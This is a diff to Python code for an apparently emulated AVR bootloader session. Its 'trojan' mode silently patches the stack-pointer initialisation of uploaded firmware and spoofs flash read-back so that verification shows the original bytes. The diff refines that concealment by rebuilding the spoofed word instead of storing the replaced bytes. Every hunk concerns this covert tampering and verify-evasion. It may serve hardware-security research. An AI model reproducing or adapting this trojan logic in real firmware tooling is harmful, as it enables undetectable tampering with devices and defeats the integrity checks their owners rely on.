@@ -207,22 +207,22 @@ class BootSession:
     7-byte fringe into previously received bytes) for the stack-pointer
     init sequence and lowers the SPL immediate by avr.DEFAULT_STEAL_BYTES
     the moment the whole 8-byte pattern is resident.  Read-back requests
-    overlapping the patched word are reverted on the fly, so a verify pass
-    sees exactly the uploaded bytes.  The first site to be wholly received
+    overlapping the patched word are shown the uploaded word, rebuilt from
+    the SPL immediate ``sp_site`` holds, so a verify pass sees exactly the
+    uploaded bytes.  The first site to be wholly received
     decides for the whole session (the lowest offset, if one write
     completes several, as in avr.find_sp_init), and no write is scanned
     after it: if its immediate cannot take the subtraction the session
     stays dormant, ``sp_site`` stays None and nothing is patched or
-    spoofed.  The session patches at most once.  A later write covering
-    either patched byte clears ``sp_site`` and ``_patch`` (the bytes it
-    replaced): ``sp_site`` is set exactly while the patch is in flash.
+    spoofed.  The session patches at most once.  ``sp_site`` is its one
+    record of the patch: a later write covering either patched byte clears
+    it, so it is set exactly while the patch is in flash.
     """
 
     image: FlashImage
     trojan_enabled: bool = False
     load_address: int = field(default=0, init=False)
     sp_site: SpInitSite | None = field(default=None, init=False)
-    _patch: bytes | None = field(default=None, init=False)
     # while a trojan session is undecided, one byte per application-region
     # address, nonzero once the session has received that byte; else None
     _received: bytearray | None = field(init=False, repr=False)
@@ -239,7 +239,7 @@ class BootSession:
     def _handle_load_address(self, body: bytes) -> bytes:
         if len(body) != 5:
             return bytes([CMD_LOAD_ADDRESS, STATUS_CMD_FAILED])
-        addr = int.from_bytes(body[1:5], "big")
+        addr = int.from_bytes(body[1:], "big")
         if addr >= self.layout.flash_size:
             return bytes([CMD_LOAD_ADDRESS, STATUS_CMD_FAILED])
         self.load_address = addr
@@ -258,8 +258,8 @@ class BootSession:
             return bytes([CMD_PROGRAM_FLASH, STATUS_CMD_FAILED])
         self.image.write(start, data)
         self.load_address = end
-        if self._patch is not None and start - 2 < self.sp_site.offset < end:
-            self._patch = self.sp_site = None  # the patched word was overwritten: no patch to hide
+        if self.sp_site is not None and start - 2 < self.sp_site.offset < end:
+            self.sp_site = None  # the patched word was overwritten: no patch to hide
         if self._received is not None:
             self._received[start:end] = b"\x01" * size
             self._scan_for_sp_init(start, end)
@@ -271,12 +271,12 @@ class BootSession:
         # _sp_init_sites skips the odd offsets.
         lo = max(0, page_start - _FRINGE)
         hi = min(self.layout.boot_start, page_end + _FRINGE)
-        for site in avr._sp_init_sites(self.image.data, lo, hi):
+        for site in avr._sp_init_sites(self.image, lo, hi):
             if 0 in self._received[site.offset : site.offset + 8]:
                 continue
             self._received = None
             try:
-                self._patch = apply_stack_steal(self.image, site)
+                apply_stack_steal(self.image, site)
             except avr.DormantAbort:
                 return  # dormant: immediate too small to take the theft
             self.sp_site = site
@@ -287,22 +287,25 @@ class BootSession:
             return bytes([CMD_READ_FLASH, STATUS_CMD_FAILED])
         size = (body[1] << 8) | body[2]
         start = self.load_address
-        if start + size > self.layout.flash_size:
+        if size > _MAX_PAGE_SIZE or start + size > self.layout.flash_size:
             return bytes([CMD_READ_FLASH, STATUS_CMD_FAILED])
         data = self.image.data[start : start + size]  # a copy, in bounds as checked
-        if self._patch is not None:
-            self._spoof_window(data, start)
+        site = self.sp_site
+        if site is not None and start - 2 < site.offset < start + size:
+            self._spoof_window(data, site.offset - start)
         self.load_address = start + size
         return _READ_FLASH_OK + data + _STATUS_OK
 
-    def _spoof_window(self, data: bytearray, start: int):
-        """Present the pre-patch bytes wherever the window overlaps the
-        patched instruction word."""
-        offset = self.sp_site.offset
-        for i, byte in enumerate(self._patch):
-            pos = offset + i - start
-            if 0 <= pos < len(data):
-                data[pos] = byte
+    def _spoof_window(self, data: bytearray, pos: int):
+        """Present the uploaded word where data overlaps the patched one,
+        which starts at data[pos] (pos is -1 to len(data) - 1).  The scan
+        admits only an ldi r28 there, and sp_site holds the immediate it
+        read just before the steal, so the word is rebuilt from it."""
+        word = avr.words_to_bytes(avr.enc_ldi(28, self.sp_site.spl_immediate))
+        if pos >= 0:
+            data[pos] = word[0]
+        if pos + 1 < len(data):
+            data[pos + 1] = word[1]
 
     def handle(self, body: bytes) -> bytes:
         if not body:
